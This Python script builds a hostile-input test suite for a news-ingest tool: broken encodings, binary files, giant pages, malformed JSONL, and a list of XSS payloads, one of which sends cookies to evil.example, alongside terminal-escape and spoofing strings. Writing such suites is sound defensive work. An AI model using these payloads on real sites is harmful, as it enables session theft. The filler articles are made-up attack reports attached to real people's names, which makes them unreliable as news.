"""Generate the hostile-input suite: >= 1,000 messy, broken or malicious inputs for `newsgraph ingest`.

Scraped news is hostile: wrong encodings, binary files with a .txt name, giant pages, markup and
scripts, broken JSONL.  This script writes such inputs into a folder (never into the repository:
the suite is regenerated at test time, and a 50 MB page has no business in git) together with a
``manifest.json`` that says, for every case, where it is (file and JSONL line) and what ingest
may do with it:

* ``stored``   - a usable article: it must be stored, once;
* ``rejected`` - unusable: it must be listed by ``newsgraph failures`` with a one-line reason;
* ``either``   - legitimately both (e.g. Shift_JIS text without a declared charset).

Cases in one ``group`` have the same article text in different wrappings (UTF-8, UTF-16 with a
BOM, CRLF...); exactly one of a group's stored cases is kept, the others are recognised as the
same article.  ``explicit`` cases are passed on the command line instead of being found by the
folder walk (a folder walk skips unsupported file types by design).

Usage::

    python scripts/make_hostile.py OUT_DIR [--no-big] [--seed N]

prints the number of cases and writes ``OUT_DIR/manifest.json``; ingest
``OUT_DIR/suite`` plus every path in the manifest's ``explicit_paths``.
"""

# ruff: noqa: UP031 - raw JSON lines read best as "%s" templates (f-strings would double every brace)
from __future__ import annotations

import argparse
import base64
import gzip
import io
import json
import os
import random
import struct
import zipfile
import zlib
from dataclasses import asdict, dataclass, field
from pathlib import Path

PEOPLE = [
    "Baitullah Mehsud", "Hakimullah Mehsud", "Asif Ali Zardari", "Yusuf Raza Gilani",
    "Rehman Malik", "Maulana Fazlullah", "Sufi Muhammad", "Qari Zainuddin", "Ashfaq Kayani",
    "Owais Ghani", "Shah Mehmood Qureshi", "Athar Abbas",
]
PLACES = [
    "Peshawar", "Islamabad", "South Waziristan", "Swat", "Lahore", "Karachi", "Quetta", "Bannu",
    "Dera Ismail Khan", "Kohat", "Mingora", "Rawalpindi",
]
GROUPS = ["the Pakistan Taliban", "al-Qaeda", "Lashkar-e-Taiba", "the Pakistani army", "the Frontier Corps"]
VERBS = ["attacked", "bombed", "raided", "shelled", "ambushed"]
WEEKDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]

BIG_PAGE_BYTES = 50 * 1024 * 1024  # the "50 MB page"
OVER_LIMIT_BYTES = 21 * 1000 * 1000  # just over the default max_article_bytes (20 MB)
LONG_LINE_BYTES = 1024 * 1024  # "1 MB single line"


@dataclass
class Case:
    path: str  # relative to the output folder
    category: str
    expect: str  # stored | rejected | either
    line: int | None = None  # 1-based JSONL line
    group: str | None = None  # cases carrying the same article
    markup: bool = False  # real <script>/<iframe>/javascript: markup that must not reach the text
    explicit: bool = False  # passed on the command line, not found by the folder walk
    note: str = ""


@dataclass
class Suite:
    root: Path
    rng: random.Random
    big: bool = True
    cases: list[Case] = field(default_factory=list)
    serial: int = 0

    # -- article text ------------------------------------------------------------------------
    def article(self, extra: str = "") -> str:
        """A short, unique, plausible news article (unique: its report number)."""
        self.serial += 1
        r = self.rng
        p, q = r.sample(PEOPLE, 2)
        place, group, verb = r.choice(PLACES), r.choice(GROUPS), r.choice(VERBS)
        n, day = r.randint(2, 60), r.choice(WEEKDAYS)
        return (
            f"Militants {verb} a police post in {place} on {day}, killing {n} officers, officials said. "
            f"{p}, a commander of {group}, claimed responsibility in a call to reporters. "
            f"{q} condemned the attack and promised an inquiry.{(' ' + extra) if extra else ''} "
            f"This is report number {self.serial} of the hostile-input suite."
        )

    # -- writing -----------------------------------------------------------------------------
    def write(self, rel: str, data: bytes | str, category: str, expect: str, **kw: object) -> Path:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        self.cases.append(Case(rel, category, expect, **kw))  # type: ignore[arg-type]
        return path

    def jsonl(self, rel: str, lines: list[tuple[bytes | str, str, dict]], category: str,
              sep: bytes = b"\n") -> None:
        """One JSONL file; each (content, expect, extra) is one case at its line number."""
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        out = []
        for n, (content, expect, extra) in enumerate(lines, start=1):
            raw = content.encode("utf-8") if isinstance(content, str) else content
            assert b"\n" not in raw, "a JSONL case must be one line"
            out.append(raw)
            self.cases.append(Case(rel, category, expect, line=n, **extra))
        path.write_bytes(sep.join(out) + sep)


def _png(rng: random.Random) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = bytes(rng.getrandbits(8) for _ in range(3 * 8 * 8 + 8))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def _zip(text: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("article.txt", text)
    return buf.getvalue()


# --------------------------------------------------------------------------- categories


def empty_and_whitespace(s: Suite) -> None:
    blanks = {
        "empty": b"", "space": b" ", "spaces": b"   \t  ", "newlines": b"\n\n\n", "crlf": b"\r\n" * 5,
        "cr": b"\r\r", "nbsp": "\u00a0\u00a0\n".encode(), "ideographic": "\u3000 \u2003\n".encode(),
        "zwsp": "\u200b\u200b\u200b".encode(), "bom_only": b"\xef\xbb\xbf", "bom_spaces": b"\xef\xbb\xbf  \n",
        "utf16_bom_only": b"\xff\xfe", "utf16_spaces": "   \n".encode("utf-16"), "formfeed": b"\x0c\x0c\n",
        "tabs": b"\t\t\t", "nel": "\u0085\u2028\u2029".encode(),
    }
    for name, data in blanks.items():
        for ext in (".txt", ".html", ".jsonl"):
            s.write(f"suite/empty/{name}{ext}", data, "empty/whitespace", "rejected")
    # too little text to be an article
    for i, text in enumerate(["Hello.", "Click here", "<p></p><div> </div>", "Read more »", "© 2009 CBS"]):
        s.write(f"suite/empty/tiny_{i}.txt", text, "empty/whitespace", "rejected")
        s.write(f"suite/empty/tiny_{i}.html", f"<html><body>{text}</body></html>", "empty/whitespace", "rejected")


def binary(s: Suite) -> None:
    r = s.rng
    text = s.article()
    blobs = {
        "png": _png(r), "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + r.randbytes(2000),
        "gif": b"GIF89a" + r.randbytes(500), "pdf": b"%PDF-1.4\n" + r.randbytes(1000),
        "zip": _zip(text), "gzip": gzip.compress(text.encode()), "elf": b"\x7fELF" + r.randbytes(800),
        "sqlite": b"SQLite format 3\x00" + r.randbytes(2000), "mp4": b"\x00\x00\x00\x18ftypmp42" + r.randbytes(500),
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + r.randbytes(500), "bzip2": b"BZh9" + r.randbytes(300),
        "utf16_no_bom": text.encode("utf-16-le"),  # NUL bytes and no BOM: not text we can read
        "nul_in_text": (text[:40] + "\x00" + text[40:]).encode(),
        "utf32_no_bom": text.encode("utf-32-le"),
    }
    for name, data in blobs.items():
        for ext in (".txt", ".html", ".jsonl"):
            s.write(f"suite/binary/{name}{ext}", data, "binary", "rejected")
    for i in range(40):  # random bytes: with NULs certainly binary; high bytes only: either
        s.write(f"suite/binary/random_{i:02d}.txt", r.randbytes(r.randint(1, 5000)), "binary", "rejected"
                if i % 2 == 0 else "either")
        if i % 2:  # bytes 0x80-0xff only: no NUL, maybe decodable as cp1252 garbage
            s.write(f"suite/binary/high_{i:02d}.html", bytes(r.randint(0x80, 0xFF) for _ in range(3000)),
                    "binary", "either")
    # explicit non-article files: a folder walk skips them, an explicit path must be refused
    for name, data in (("photo.png", _png(r)), ("archive.zip", _zip(text)), ("doc.pdf", blobs["pdf"]),
                       ("noextension", text.encode()), ("page.php", text.encode())):
        s.write(f"explicit/{name}", data, "binary", "rejected", explicit=True)


ENCODED = {
    # codec: (text, expect without a declared charset)
    "latin-1": ("Le président a déclaré que l'armée avait tué des militants près de Peshawar, "
                "selon des responsables à Islamabad. Les forces de sécurité ont bouclé le marché.", "stored"),
    "cp1252": ("\u201cWe will avenge him,\u201d a Taliban spokesman said \u2014 Pakistani officials said "
               "the army killed 12 militants near Peshawar on Monday.", "stored"),
    "shift_jis": ("パキスタン北西部ペシャワルで自爆攻撃があり、警察官五人が死亡したと当局者が述べた。", "either"),
    "gb18030": ("巴基斯坦西北部白沙瓦发生自杀式袭击，官员说五名警察死亡。塔利班声称对此负责。", "either"),
    "koi8-r": ("Боевики атаковали полицейский пост в Пешаваре, убив пять офицеров, сообщили чиновники.", "either"),
    "cp1251": ("Боевики атаковали полицейский пост в Пешаваре, убив пять офицеров, сообщили чиновники.", "either"),
    "euc-kr": ("파키스탄 페샤와르에서 자살 폭탄 공격으로 경찰관 다섯 명이 숨졌다고 관리들이 밝혔다.", "either"),
    "iso-8859-7": ("Μαχητές επιτέθηκαν σε αστυνομικό φυλάκιο στην Πεσαβάρ, σκοτώνοντας πέντε αστυνομικούς.", "either"),
}


def encodings(s: Suite) -> None:
    # The same article in every Unicode encoding with a BOM: one article, stored once.
    text = s.article()
    for codec, bom in (("utf-8", b""), ("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"),
                       ("utf-16-be", b"\xfe\xff"), ("utf-32-le", b"\xff\xfe\x00\x00"),
                       ("utf-32-be", b"\x00\x00\xfe\xff")):
        name = f"{codec}{'_bom' if bom else ''}"
        s.write(f"suite/encoding/same_{name}.txt", bom + text.encode(codec), "encoding", "stored", group="enc-same")
        s.write(f"suite/encoding/same_{name}_crlf.txt", bom + text.replace(". ", ".\r\n").encode(codec),
                "encoding", "stored", group="enc-same")  # line breaks inside a paragraph: same article
    for codec, (native, expect) in ENCODED.items():
        for variant in range(3):
            body = s.article(native) if variant else native + " " + s.article()
            try:
                data = body.encode(codec)
            except UnicodeEncodeError:
                data = body.encode(codec, "replace")
            slug = codec.replace("-", "")
            s.write(f"suite/encoding/{slug}_{variant}.txt", data, "encoding", expect)

            def page(charset: str, codec: str = codec, native: str = native, variant: int = variant) -> bytes:
                # a fresh article each time: no accidental duplicates
                body = s.article(native) if variant else native + " " + s.article()
                return (f'<html><head><meta charset="{charset}"><title>Report {s.serial}</title></head>'
                        f"<body><article><p>{body}</p></article></body></html>").encode(codec, "replace")

            s.write(f"suite/encoding/{slug}_{variant}_declared.html", page(codec), "encoding", "stored")
            # a page that lies about its charset
            s.write(f"suite/encoding/{slug}_{variant}_liar.html", page("utf-8"), "encoding", "either")
        s.write(f"suite/encoding/{codec}_bogus_charset.html",
                f'<meta charset="x-no-such-{codec}"><p>{s.article(native)}</p>'.encode(codec, "replace"),
                "encoding", "either")


def invalid_utf8(s: Suite) -> None:
    bad = {
        "stray_ff": b"\xff", "stray_fe": b"\xfe", "lone_continuation": b"\x80", "truncated_2": b"\xc3",
        "truncated_3": b"\xe2\x82", "truncated_4": b"\xf0\x9f\x98", "overlong_slash": b"\xc0\xaf",
        "overlong_nul": b"\xc0\x80", "surrogate": b"\xed\xa0\x80", "above_max": b"\xf4\x90\x80\x80",
        "f5": b"\xf5\x80\x80\x80", "cp1252_quote": b"\x93quoted\x94",
    }
    for name, junk in bad.items():
        for where in ("start", "middle", "end"):
            text = s.article().encode()
            data = {"start": junk + text, "middle": text[:50] + junk + text[50:], "end": text + junk}[where]
            s.write(f"suite/invalid_utf8/{name}_{where}.txt", data, "invalid utf-8", "either")
        s.write(f"suite/invalid_utf8/{name}.html", b"<p>" + s.article().encode() + junk + b"</p>",
                "invalid utf-8", "either")
    # UTF-8 and Latin-1 paragraphs in one file (a copy-paste from two sources)
    for i in range(5):
        data = s.article().encode() + b"\n\n" + "Le général a déclaré à Peshawar.".encode("latin-1")
        s.write(f"suite/invalid_utf8/mixed_{i}.txt", data, "invalid utf-8", "either")
    # a BOM that lies: UTF-16 BOM then UTF-8 bytes, UTF-8 BOM then Latin-1
    s.write("suite/invalid_utf8/utf16_bom_utf8_body.txt", b"\xff\xfe" + s.article().encode() + b"x",
            "invalid utf-8", "either")
    s.write("suite/invalid_utf8/utf8_bom_latin1_body.txt", b"\xef\xbb\xbf" + s.article("Déclaré à Peshawar.")
            .encode("latin-1"), "invalid utf-8", "either")


def line_endings_and_boms(s: Suite) -> None:
    for name, sep in (("crlf", "\r\n"), ("cr", "\r"), ("lf", "\n"), ("mixed", None), ("ls", "\u2028"),
                      ("ps", "\u2029"), ("nel", "\u0085"), ("vt", "\x0b"), ("ff", "\x0c")):
        for para in (False, True):
            sentences = s.article().split(". ")
            if sep is None:
                seps = ["\r\n", "\r", "\n", "\n\r"]
                text = "".join(x + ". " + seps[i % 4] for i, x in enumerate(sentences))
            else:
                text = (sep * 2 if para else sep).join(x + "." for x in sentences)
            title = f"Attack report {s.serial}"
            s.write(f"suite/lines/{name}_{int(para)}.txt", title + (sep or "\r\n") * 2 + text, "line endings", "stored")
            text = (sep or "\r\n").join(x + "." for x in s.article().split(". "))
            s.write(f"suite/lines/{name}_{int(para)}.html",
                    f"<html>{sep or chr(13)}<body>{sep or chr(13)}<p>{text}</p></body></html>", "line endings", "stored")
    for name, text in (("bom_middle", "\ufeff".join(s.article().split(". "))), ("double_bom", "\ufeff\ufeff" + s.article()),
                       ("bom_each_line", "\n".join("\ufeff" + x for x in s.article().split(". ")))):
        s.write(f"suite/lines/{name}.txt", text, "bom", "stored")


def big(s: Suite) -> None:
    r = s.rng
    if s.big:  # rejected from its size alone, never read into memory
        chunk = ("<div><p>" + s.article() + "</p></div>\n").encode()
        reps = BIG_PAGE_BYTES // len(chunk) + 1
        s.write("suite/big/page_50mb.html", b"<html><body>" + chunk * reps + b"</body></html>", "big", "rejected")
        s.write("suite/big/text_21mb.txt", (s.article() + "\n") * (OVER_LIMIT_BYTES // 200 + 1), "big", "rejected")
        huge = json.dumps({"text": "x " * (OVER_LIMIT_BYTES // 2 + 10)})
        s.jsonl("suite/big/huge_line.jsonl", [(json.dumps({"text": s.article()}), "stored", {}),
                                               (huge, "rejected", {}),
                                               (json.dumps({"text": s.article()}), "stored", {})], "big")
    # 1 MB single lines of the kinds scrapes really contain: a base64 image, minified script,
    # one endless token, a run of non-words.  (A 1 MB line of *prose* is timed separately.)
    b64 = base64.b64encode(r.randbytes(LONG_LINE_BYTES * 3 // 4)).decode()
    s.write("suite/big/line_base64.txt", s.article() + "\n" + b64 + "\n", "1mb line", "either")
    s.write("suite/big/line_datauri.html",
            f'<p>{s.article()}</p><img src="data:image/png;base64,{b64}">', "1mb line", "stored")
    js = "var a=" + json.dumps([r.randint(0, 10**6) for _ in range(LONG_LINE_BYTES // 8)]) + ";"
    s.write("suite/big/line_minified_js.html",
            f"<html><head><script>{js}</script></head><body><p>{s.article()}</p></body></html>", "1mb line",
            "stored", markup=True)
    s.write("suite/big/line_one_token.txt", s.article() + "\n" + "A" * LONG_LINE_BYTES, "1mb line", "either")
    s.write("suite/big/line_punct.txt", s.article() + "\n" + "-=" * (LONG_LINE_BYTES // 2), "1mb line", "either")
    s.write("suite/big/line_numbers.txt",
            s.article() + "\n" + " ".join(str(r.randint(0, 99999)) for _ in range(LONG_LINE_BYTES // 6)),
            "1mb line", "either")


def nested_html(s: Suite) -> None:
    for depth in (100, 1000, 5000, 20000):
        for tag in ("div", "b", "table"):
            inner = f"<p>{s.article()}</p>"
            if tag == "table":
                page = "<table><tr><td>" * depth + inner + "</td></tr></table>" * depth
            else:
                page = f"<{tag}>" * depth + inner + f"</{tag}>" * depth
            s.write(f"suite/nested/{tag}_{depth}.html", f"<html><body>{page}</body></html>", "nested html", "either")
        s.write(f"suite/nested/unclosed_{depth}.html", "<html><body>" + "<div><span>" * depth + s.article(),
                "nested html", "either")
    s.write("suite/nested/comment_bomb.html", "<!--" * 10000 + s.article() + "-->" * 10, "nested html", "either")
    s.write("suite/nested/broken_tags.html", "<p<p<p<div<<>>" + s.article() + "</</p>>", "nested html", "either")
    s.write("suite/nested/deep_text.txt", "<div>" * 5000 + "\n" + s.article() + "\n" + "</div>" * 5000,
            "nested html", "either")


SCRIPTS = [
    "<script>alert(1)</script>",
    "<script src=\"https://evil.example/x.js\"></script>",
    "<SCRIPT>document.location='https://evil.example/?c='+document.cookie</SCRIPT>",
    "<iframe src=\"javascript:alert(2)\"></iframe>",
    "<iframe src=\"https://evil.example/frame\" width=0 height=0></iframe>",
    "<img src=x onerror=\"alert(3)\">",
    "<svg onload=alert(4)><circle r=1></circle></svg>",
    "<a href=\"javascript:alert(5)\">Read more</a>",
    "<a href=\"JaVaScRiPt:alert(6)\">click</a>",
    "<body onload=alert(7)>",
    "<object data=\"javascript:alert(8)\"></object>",
    "<embed src=\"javascript:alert(9)\">",
    "<style>body{background:url(javascript:alert(10))}</style>",
    "<math><mtext><script>alert(11)</script></mtext></math>",
    "<noscript><script>alert(12)</script></noscript>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(13)\">",
    "<form action=\"javascript:alert(14)\"><input type=submit></form>",
    "<scr<script>ipt>alert(15)</script>",
    "<template><script>alert(16)</script></template>",
    "<base href=\"javascript:alert(17)//\">",
]


def scripts(s: Suite) -> None:
    for i, payload in enumerate(SCRIPTS):
        body = s.article()
        half = len(body) // 2
        s.write(f"suite/script/head_{i:02d}.html",
                f"<html><head>{payload}<title>Attack {s.serial}</title></head><body><p>{body}</p></body></html>",
                "script/iframe", "stored", markup=True)
        body = s.article()
        s.write(f"suite/script/inline_{i:02d}.html",
                f"<html><body><article><p>{body[:half]}{payload}{body[half:]}</p></article></body></html>",
                "script/iframe", "stored", markup=True)
        s.write(f"suite/script/text_{i:02d}.txt", f"{payload}\n{s.article()}\n{payload}\n", "script/iframe", "stored",
                markup=True)
        s.jsonl(f"suite/script/jsonl_{i:02d}.jsonl", [
            (json.dumps({"html": f"<p>{s.article()}</p>{payload}", "title": payload}), "stored", {"markup": True}),
            (json.dumps({"text": s.article(), "url": "javascript:alert(1)", "byline": payload}), "stored", {}),
        ], "script/iframe")


ENTITIES = [
    "&amp;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&quot;quoted&quot;", "&#39;", "&#x27;", "&nbsp;",
    "&#0;", "&#x0;", "&#1114112;", "&#x110000;", "&#xD800;", "&#9999999;", "&#x1F600;", "&notanentity;",
    "&amp;amp;amp;", "&", "&#", "&#x;", "&mdash;&hellip;&rsquo;", "&AMP;", "&#65;&#66;&#67;", "&#128;",
    "&#x202E;reversed", "&#8203;", "&ZeroWidthSpace;",
]


def html_entities(s: Suite) -> None:
    for i, ent in enumerate(ENTITIES):
        body = s.article()
        cut = body.index(",")
        s.write(f"suite/entities/ent_{i:02d}.html", f"<p>{body[:cut]}{ent}{body[cut:]}</p>", "html entities", "stored")
        body = s.article()
        cut = body.index(",")
        s.write(f"suite/entities/ent_{i:02d}.txt", f"{body[:cut]} {ent}{body[cut:]} {ent}", "html entities", "stored")
        # an escaped tag opening the line: the cleaner may take the line for markup (listed, not lost)
        s.write(f"suite/entities/lead_{i:02d}.txt", f"{ent} {s.article()}", "html entities", "either")
        s.write(f"suite/entities/title_{i:02d}.html",
                f"<html><head><title>{ent} Attack {ent}</title></head><body><p>{s.article()}</p></body></html>",
                "html entities", "stored")


UNICODE_TRICKS = {
    "rtl_urdu": "پشاور میں خودکش حملہ، پانچ پولیس اہلکار ہلاک۔",
    "rtl_arabic": "قال مسؤولون إن مسلحين هاجموا مركزا للشرطة.",
    "rlo": "\u202eevil.exe\u202c",
    "bidi_isolates": "\u2066Mehsud\u2069 \u2067طالبان\u2069",
    "lrm_rlm": "\u200eMehsud\u200f said\u200e",
    "zwsp_name": "Baitullah Meh\u200bsud",
    "zwj_name": "Hakimullah Meh\u200dsud",
    "zwnj": "Tehrik\u200c-e-Taliban",
    "soft_hyphen": "Wazi\u00adristan",
    "word_joiner": "Fazl\u2060ullah",
    "combining": "Mehsu\u0301d Zarda\u0308ri",
    "emoji": "Attack 💣🔥 in Peshawar 🇵🇰",
    "zalgo": "M̸̢̧e̷h̶s̵u̴d̸" * 3,
    "private_use": "\ue000\ue001 Mehsud \uf8ff",
    "noncharacters": "\ufdd0\ufffe\uffff Mehsud",
    "replacement": "\ufffd\ufffd Mehsud",
    "astral": "𝐌𝐞𝐡𝐬𝐮𝐝 𝕿𝖆𝖑𝖎𝖇𝖆𝖓",
    "fullwidth": "Ｂａｉｔｕｌｌａｈ Ｍｅｈｓｕｄ",
    "tag_chars": "Mehsud\U000e0041\U000e0042",
    "controls": "Meh\x01sud \x07 \x1b[31mred\x1b[0m",
    "ansi_title": "\x1b]0;pwned\x07\x1b[2J",
}
HOMOGLYPHS = {
    "cyrillic_M": "\u041cehsud",  # "Меhsud" with a Cyrillic М
    "cyrillic_e": "M\u0435hsud",
    "cyrillic_a_baitullah": "B\u0430itullah Mehsud",
    "greek_omicron": "Tehrik-e-Taliban Pakist\u03bfn",
    "all_cyrillic_lookalike": "\u0412\u0430it\u0443ll\u0430h \u041c\u0435hsud",
    "latin_dotless_i": "Baitullah Mehsud \u0131",
    "turkish_I": "\u0130slamabad",
}


def unicode_tricks(s: Suite) -> None:
    for name, trick in {**UNICODE_TRICKS, **HOMOGLYPHS}.items():
        cat = "homoglyph" if name in HOMOGLYPHS else "rtl/zero-width"
        body = s.article()
        sentence = f"{trick} was named by officials in the report."
        s.write(f"suite/unicode/{name}.txt", f"{body} {sentence}", cat, "stored")
        s.write(f"suite/unicode/{name}.html", f"<html><head><title>{trick}</title></head><body><p>{s.article()} "
                f"{sentence}</p></body></html>", cat, "stored")
        s.jsonl(f"suite/unicode/{name}.jsonl", [
            (json.dumps({"text": s.article() + " " + sentence, "title": trick, "byline": trick}), "stored", {}),
            (json.dumps({"text": s.article(), "publisher": trick}, ensure_ascii=False), "stored", {}),
        ], cat)
    # lone surrogates: JSON can escape them, UTF-8 cannot carry them
    s.jsonl("suite/unicode/surrogates.jsonl", [
        ('{"text": "%s \\ud800 lone high"}' % s.article(), "either", {}),
        ('{"text": "%s \\udc80 lone low"}' % s.article(), "either", {}),
        ('{"text": "%s", "title": "bad \\ud800 title"}' % s.article(), "either", {}),
        ('{"text": "%s", "byline": "\\udfff"}' % s.article(), "either", {}),
        ('{"text": "%s \\ud83d\\ude00 a valid pair"}' % s.article(), "stored", {}),
    ], "rtl/zero-width")


def malformed_jsonl(s: Suite) -> None:
    good = lambda: json.dumps({"text": s.article()})  # noqa: E731
    broken = [
        '{"text": "unterminated', '{"text": "x",}', "{'text': 'single quotes'}", "{text: \"unquoted key\"}",
        '{"text": "a" "b"}', "{", "}", "[", "]", "{}", "[]", "null", "true", "false", "0", "-1", '"a string"',
        "1e400", "NaN", "Infinity", '{"text": NaN}', '{"text": Infinity}', '{"text": undefined}',
        '{"text": "x"} {"text": "y"}', '{"text": "x"}garbage', "garbage", "<html><p>not json</p></html>",
        '{"text": "tab\tinside"}', '{"text": "ctrl\x01char"}', '{"text": "bad \\x escape"}', '{"text": "\\u12"}',
        '{"text": "\\uZZZZ"}', "{" * 100000, "[" * 100000 + "]" * 100000, '{"a":' * 50000 + "1" + "}" * 50000,
        '{"text": "' + "\\\\" * 1000 + '"', '{"":""}', '{"text": ""}', '{"text": "   "}', '{"html": "<p></p>"}',
        '{"text": null, "html": null}', '{"title": "no body at all"}', '{"text": "two words"}',
        '\ufeff{"text": "bom in the middle of the file"}',
    ]
    lines = [(good(), "stored", {})]
    for b in broken:
        lines.append((b, "rejected", {}))
        lines.append((good(), "stored", {}))
    lines.append((b'{"text": "\xff\xfe invalid utf-8 bytes"}', "rejected", {}))
    lines.append((b'{"text": "latin-1 caf\xe9"}', "rejected", {}))
    lines.append((b"\x00\x01\x02\x03", "rejected", {}))
    lines.append((good(), "stored", {}))
    s.jsonl("suite/jsonl/malformed.jsonl", lines, "malformed jsonl")
    # line-ending variants of a valid JSONL file
    three = [(good(), "stored", {}) for _ in range(3)]
    s.jsonl("suite/jsonl/crlf.jsonl", three, "malformed jsonl", sep=b"\r\n")
    s.jsonl("suite/jsonl/bom_first.jsonl", [(b"\xef\xbb\xbf" + good().encode(), "stored", {}),
                                             (good(), "stored", {})], "malformed jsonl")
    # records separated by lone CRs are one long line: at most one case, which must not crash
    s.write("suite/jsonl/cr_only.jsonl", "\r".join(good() for _ in range(3)) + "\r", "malformed jsonl", "rejected",
            line=1)
    s.write("suite/jsonl/utf16.jsonl", good().encode("utf-16"), "malformed jsonl", "either", line=1)
    s.write("suite/jsonl/no_final_newline.jsonl", good(), "malformed jsonl", "stored", line=1)
    s.write("suite/jsonl/array_of_records.jsonl", "[" + good() + "," + good() + "]\n", "malformed jsonl",
            "rejected", line=1)
    s.write("suite/jsonl/pretty_printed.jsonl", json.dumps({"text": s.article()}, indent=2) + "\n",
            "malformed jsonl", "rejected", note="every line of a pretty-printed object is a broken record")


WRONG_VALUES = [
    0, 1, -1, 3.14, True, False, [], ["a"], {}, {"a": 1}, [None], [[[]]], 1e308, -1e308,
]


def wrong_types(s: Suite) -> None:
    lines: list[tuple[bytes | str, str, dict]] = []
    for key in ("text", "html", "title", "url", "published", "publisher", "byline"):
        for value in WRONG_VALUES:
            rec: dict = {"text": s.article()}
            rec[key] = value
            lines.append((json.dumps(rec), "rejected", {}))
        rec = {"text": s.article(), key: None} if key not in ("text", "html") else {"html": None, "text": s.article()}
        lines.append((json.dumps(rec), "stored", {}))  # null is "not given"
    # unknown keys of any type are ignored
    for value in WRONG_VALUES:
        lines.append((json.dumps({"text": s.article(), "extra": value, "id": value}), "stored", {}))
    lines.append((json.dumps({"text": s.article(), "text ": 1, "TEXT": 2}), "stored", {}))
    lines.append((json.dumps({"text": s.article(), "html": "<p>" + s.article() + "</p>"}), "stored", {}))
    lines.append(('{"text": "%s", "text": 5}' % s.article(), "rejected", {"note": "duplicate key, last wins"}))
    lines.append(('{"text": 5, "text": "%s"}' % s.article(), "stored", {"note": "duplicate key, last wins"}))
    s.jsonl("suite/jsonl/wrong_types.jsonl", lines, "json wrong types")
    # sidecars with wrong types: the article still loads, the sidecar is listed as a failure
    for i, side in enumerate(['{"published": 20090625}', '["not", "an", "object"]', "{broken", '"just a string"',
                              '{"title": ["a"]}', '{"published": "2009-02-30"}', b"\xff\xfe\x00\x00garbage",
                              '{"published": 1e400}', '{"n": ' + "9" * 5000 + "}"]):  # the last: see huge_int_digits
        s.write(f"suite/sidecar/art_{i}.txt", s.article(), "json wrong types", "stored")
        s.write(f"suite/sidecar/art_{i}.meta.json", side, "json wrong types", "rejected", note="sidecar")


def huge_numbers(s: Suite) -> None:
    lines: list[tuple[bytes | str, str, dict]] = []
    for raw in ("1e400", "-1e400", "1e-400", "123456789012345678901234567890", "9" * 4000, "-" + "9" * 4000,
                "0." + "0" * 5000 + "1", "1" + "0" * 300 + ".5"):
        lines.append(('{"text": "%s", "count": %s}' % (s.article(), raw), "stored",
                      {"note": "huge number in an unused field"}))
        lines.append(('{"text": %s}' % raw, "rejected", {}))
        lines.append(('{"text": "%s", "published": %s}' % (s.article(), raw), "rejected", {}))
    s.jsonl("suite/jsonl/huge_numbers.jsonl", lines, "huge numbers")
    # integers past Python's 4,300-digit int/str limit make json.loads raise ValueError, not
    # JSONDecodeError: a file of their own, so a reader that trips on them is easy to see
    digits = []
    for raw in ("9" * 4301, "-" + "9" * 5000, "9" * 100000):
        digits.append(('{"text": "%s", "count": %s}' % (s.article(), raw), "either", {}))
        digits.append(('{"text": %s}' % raw, "rejected", {}))
        digits.append((json.dumps({"text": s.article()}), "stored", {}))
    s.jsonl("suite/jsonl/huge_int_digits.jsonl", digits, "huge numbers")
    for n in ("9" * 30, "1e400", str(2**64), "-" + str(2**63)):
        s.write(f"suite/numbers/killed_{len(n)}.txt",
                f"A car bomb killed {n} people in Peshawar on Monday, officials said. " + s.article(),
                "huge numbers", "stored")


BAD_DATES = ["2009-02-30", "0000-01-01", "0000-00-00", "2009-13-01", "2009-00-10", "-0001-01-01", "10000-01-01",
             "Feb. 30, 2009", "February 30, 2009", "0", "-1", "99999999", "2009-02-29", "1900-02-29",
             "year 0", "30/02/2009", "9999-99-99", "1 AD", "tomorrow", "\u0662\u0660\u0660\u0669"]
OK_DATES = ["2009-06-25", "2008-02-29", "June 25, 2009", "25 June 2009", "2009-06-25T10:00:00Z", ""]
ODD_DATES = ["2009-06-25T25:61:61", "2009-06-25 +99:99", "2009-06-25garbage"]  # a valid day, junk after it


def dates(s: Suite) -> None:
    lines: list[tuple[bytes | str, str, dict]] = []
    for d in BAD_DATES:
        lines.append((json.dumps({"text": s.article(), "published": d}), "rejected", {"note": f"published {d!r}"}))
    for d in OK_DATES:
        lines.append((json.dumps({"text": s.article(), "published": d}), "stored", {"note": f"published {d!r}"}))
    for d in ODD_DATES:
        lines.append((json.dumps({"text": s.article(), "published": d}), "either", {"note": f"published {d!r}"}))
    s.jsonl("suite/jsonl/dates.jsonl", lines, "dates")
    for i, phrase in enumerate(["on Feb. 30", "on February 30, 2009", "in the year 0", "on 0000-00-00",
                                "on 31/02/2009", "in 10000 AD", "on Feb. 29, 2009", "in year 99999",
                                "on the 32nd of June", "1 AD", "on 2009-02-30", "at 25:61"]):
        s.write(f"suite/dates/text_{i:02d}.txt",
                f"ISLAMABAD, Feb. 30 (Reuters) - Militants attacked a convoy {phrase}, officials said. " + s.article(),
                "dates", "stored")
        s.write(f"suite/dates/byline_{i:02d}.txt",
                f"Attack in Peshawar\nBy Staff Reporter\nPublished {phrase}\n\n" + s.article(), "dates", "stored")


def valid_bulk(s: Suite, n: int) -> None:
    """Plain, healthy articles in every wrapping, so the suite also proves good input is kept."""
    lines = [(json.dumps({"text": s.article(), "title": f"Report {s.serial}", "published": "2009-06-25"}),
              "stored", {}) for _ in range(n)]
    s.jsonl("suite/jsonl/valid.jsonl", lines, "valid")
    for i in range(20):
        s.write(f"suite/valid/art_{i:02d}.txt", s.article(), "valid", "stored")
    # the same article twice in one JSONL and once more as a file: stored once
    dup = s.article()
